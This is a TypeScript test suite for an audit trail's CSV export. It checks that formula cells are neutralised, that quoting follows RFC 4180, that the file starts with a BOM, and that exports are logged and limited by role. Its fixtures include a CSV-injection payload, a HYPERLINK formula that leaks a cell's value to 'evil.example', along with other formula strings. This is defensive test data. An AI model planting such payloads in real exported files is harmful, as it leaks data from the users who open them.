// The audit trail's CSV export: formula-safe cells (OWASP "CSV Injection": a cell starting with
// = + - @ tab or CR gets a leading apostrophe), RFC 4180 quoting, a UTF-8 BOM, and an audit
// event for the export itself. First the server function against the real MariaDB, then the
// endpoint of the built server with real sign-ins.
import { and, desc, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { db, pool } from '../../src/lib/server/db';
import { auditEvents, people } from '../../src/lib/server/db/schema';
import { listAuditEvents, type Actor } from '../../src/lib/server/audit';
import { exportAuditCsv } from '../../src/lib/server/audit/export';
import { createPerson } from '../../src/lib/server/people';
import { deactivatePerson } from '../../src/lib/server/people/leavers';
import { createLine, setPlantActive } from '../../src/lib/server/plant';
import { personSchema } from '../../src/lib/schemas/people';
import { parseCsv } from '../helpers/csv-parse';

const RUN = Date.now().toString(36).slice(-5).toUpperCase();
const LINE = `X${RUN}`;
const EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open me")';
const EVIL_REASONS = [
	'+SUM(1,2)',
	'-2+3',
	'@SUM(A1:A9)',
	'\tcmd',
	'\r=1+1',
	'plain, with "quotes"'
];
const APP = process.env.TEST_APP_URL ?? 'http://127.0.0.1:3100';

/** The bytes as text, keeping a BOM (Response.text() would drop it silently). */
async function readAll(stream: ReadableStream<Uint8Array>): Promise<string> {
	const bytes = new Uint8Array(await new Response(stream).arrayBuffer());
	return new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
}

let admin: Actor;
let evil: Actor;
let siteId: number;
let lineId: number;
let personId: number;

beforeAll(async () => {
	const [a] = await db
		.select({ id: people.id, name: people.displayName, siteId: people.siteId })
		.from(people)
		.where(eq(people.email, 'admin@kbo2.example'));
	admin = { id: a.id, label: a.name, address: '127.0.0.1' };
	siteId = a.siteId!;
	// A person whose name is a spreadsheet formula: it reaches the CSV as the actor's name.
	const input = personSchema.parse({
		employeeNo: `CSV-${RUN}`,
		displayName: EVIL_NAME,
		badgeNo: `CSV-${RUN}`,
		roles: ['operator']
	});
	personId = await createPerson(admin, input, siteId);
	evil = { id: personId, label: EVIL_NAME, address: '=1+2' };
	lineId = await createLine(evil, { code: LINE, name: '@line name' }, siteId);
	for (const [i, reason] of EVIL_REASONS.entries()) {
		await setPlantActive(evil, 'line', lineId, i % 2 === 1, reason);
	}
});

afterAll(async () => {
	// Out of the way of other tests: the test line and person stay only as history.
	await setPlantActive(admin, 'line', lineId, false, 'export test finished');
	await deactivatePerson(admin, personId, 'export test finished');
	await pool.end();
});

describe('exportAuditCsv', () => {
	it('neutralises formula cells, quotes per RFC 4180 and starts with a BOM', async () => {
		const { rows, stream } = await exportAuditCsv(
			admin,
			{ q: LINE },
			{ q: LINE },
			'Asia/Ho_Chi_Minh'
		);
		const text = await readAll(stream);
		expect(text.startsWith('\uFEFF')).toBe(true);
		const table = parseCsv(text.slice(1));
		const [header, ...body] = table;
		// The last record states the chain verification (see 'states the chain verification' below).
		const trailer = body.pop()!;
		expect(trailer[header.indexOf('action')]).toBe('audit.chain_verification');
		expect(header.slice(0, 7)).toEqual([
			'seq',
			'at_utc',
			'at_local',
			'time_zone',
			'actor_id',
			'actor',
			'action'
		]);
		// One create and six switches, newest first.
		expect(rows).toBe(1 + EVIL_REASONS.length);
		expect(body).toHaveLength(rows);
		expect(body.every((r) => r.length === header.length)).toBe(true);
		const col = (name: string) => header.indexOf(name);
		const seqs = body.map((r) => Number(r[col('seq')]));
		expect(seqs).toEqual([...seqs].sort((a, b) => b - a));

		for (const r of body) {
			expect(r[col('actor')]).toBe(`'${EVIL_NAME}`);
			expect(r[col('address')]).toBe("'=1+2");
		}
		const reasons = body.map((r) => r[col('reason')]).reverse();
		expect(reasons).toEqual([
			'',
			"'+SUM(1,2)",
			"'-2+3",
			"'@SUM(A1:A9)",
			"'\tcmd",
			"'\r=1+1",
			'plain, with "quotes"'
		]);
		// No cell of the whole file starts with a formula character.
		for (const r of table) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);
		// Raw text: the quoted formula keeps its apostrophe inside the quotes.
		expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open me"")"`);
		// Values stay readable JSON, and the plant's local time sits beside UTC.
		const created = body[body.length - 1];
		expect(JSON.parse(created[col('new_values')])).toMatchObject({
			code: LINE,
			name: '@line name'
		});
		expect(created[col('time_zone')]).toBe('Asia/Ho_Chi_Minh');
		expect(created[col('at_local')]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
	});

	it('records the export with its filter and row count', async () => {
		const { rows, stream } = await exportAuditCsv(
			admin,
			{ q: LINE, action: 'line.deactivate' },
			{ q: LINE, action: 'line.deactivate' },
			'UTC'
		);
		await readAll(stream);
		expect(rows).toBe(3);
		const [ev] = await db
			.select()
			.from(auditEvents)
			.where(and(eq(auditEvents.action, 'audit.export'), eq(auditEvents.actorId, admin.id!)))
			.orderBy(desc(auditEvents.seq))
			.limit(1);
		expect(ev.newValues).toMatchObject({
			format: 'csv',
			filter: { q: LINE, action: 'line.deactivate' },
			rows: 3
		});
	});
});

describe('listAuditEvents', () => {
	it('filters by entity, actor and a case-blind search in the values, newest first', async () => {
		const byEntity = await listAuditEvents({ entityType: 'line', entityId: String(lineId) });
		expect(byEntity.total).toBe(1 + EVIL_REASONS.length);
		expect(byEntity.rows.map((r) => r.seq)).toEqual(
			[...byEntity.rows.map((r) => r.seq)].sort((a, b) => b - a)
		);
		// The line's name only appears inside the JSON values; the search ignores case there too.
		const byValue = await listAuditEvents({ q: '@LINE NAME', entityId: String(lineId) });
		expect(byValue.rows.map((r) => r.action)).toEqual(['line.create']);
		const byActor = await listAuditEvents({ actorId: evil.id!, pageSize: 3, page: 2 });
		expect(byActor.total).toBe(1 + EVIL_REASONS.length);
		expect(byActor.rows).toHaveLength(3);
		expect(byActor.rows.every((r) => r.actorLabel === EVIL_NAME)).toBe(true);
		const none = await listAuditEvents({ entityId: String(lineId), before: new Date(0) });
		expect(none.total).toBe(0);
	});
});

/** Signs in through the sign-in form of the built server and returns the session cookie. */
async function signIn(email: string): Promise<string> {
	const res = await fetch(`${APP}/signin?/password`, {
		method: 'POST',
		redirect: 'manual',
		headers: {
			origin: APP,
			accept: 'text/html',
			'content-type': 'application/x-www-form-urlencoded'
		},
		body: new URLSearchParams({ email, password: 'kestrel-bay-demo-2026', redirectTo: '/' })
	});
	expect(res.status).toBe(303);
	const cookies = res.headers.getSetCookie().map((c) => c.split(';')[0]);
	expect(cookies.some((c) => c.includes('session-token'))).toBe(true);
	return cookies.join('; ');
}

describe('GET /audit/export.csv', () => {
	it('gives quality a formula-safe CSV download and logs it', async () => {
		const cookie = await signIn('quality@kbo2.example');
		// The earlier exports match the search too (their filter names the line), so narrow to lines.
		const res = await fetch(`${APP}/audit/export.csv?q=${LINE}&entityType=line`, {
			headers: { cookie }
		});
		expect(res.status).toBe(200);
		expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
		expect(res.headers.get('content-disposition')).toMatch(
			/^attachment; filename="audit-trail-\d{4}-\d{2}-\d{2}\.csv"$/
		);
		const bytes = new Uint8Array(await res.arrayBuffer());
		expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
		const table = parseCsv(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).slice(1));
		// Header, the line's create and switches, and the chain statement last.
		expect(table).toHaveLength(1 + 1 + EVIL_REASONS.length + 1);
		expect(table[table.length - 1][6]).toBe('audit.chain_verification');
		for (const r of table) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);

		const [quality] = await db
			.select({ id: people.id })
			.from(people)
			.where(eq(people.email, 'quality@kbo2.example'));
		const [ev] = await db
			.select()
			.from(auditEvents)
			.where(and(eq(auditEvents.action, 'audit.export'), eq(auditEvents.actorId, quality.id)))
			.orderBy(desc(auditEvents.seq))
			.limit(1);
		expect(ev.newValues).toMatchObject({
			filter: { q: LINE, entityType: 'line' },
			rows: 1 + EVIL_REASONS.length
		});
	});

	it('refuses other roles and asks anonymous callers to sign in', async () => {
		const hr = await signIn('hr@kbo2.example');
		expect((await fetch(`${APP}/audit/export.csv`, { headers: { cookie: hr } })).status).toBe(403);
		const anonymous = await fetch(`${APP}/audit/export.csv`, { redirect: 'manual' });
		expect(anonymous.status).toBe(303);
		expect(anonymous.headers.get('location')).toMatch(/^\/signin\?redirectTo=/);
	});

	it('answers a bad filter with 400 and the field', async () => {
		const cookie = await signIn('quality@kbo2.example');
		const res = await fetch(`${APP}/audit/export.csv?from=2026-13-40`, { headers: { cookie } });
		expect(res.status).toBe(400);
		const body = await res.json();
		expect(body.error).toBeTruthy();
		expect(body.fields.from).toBeTruthy();
	});
});
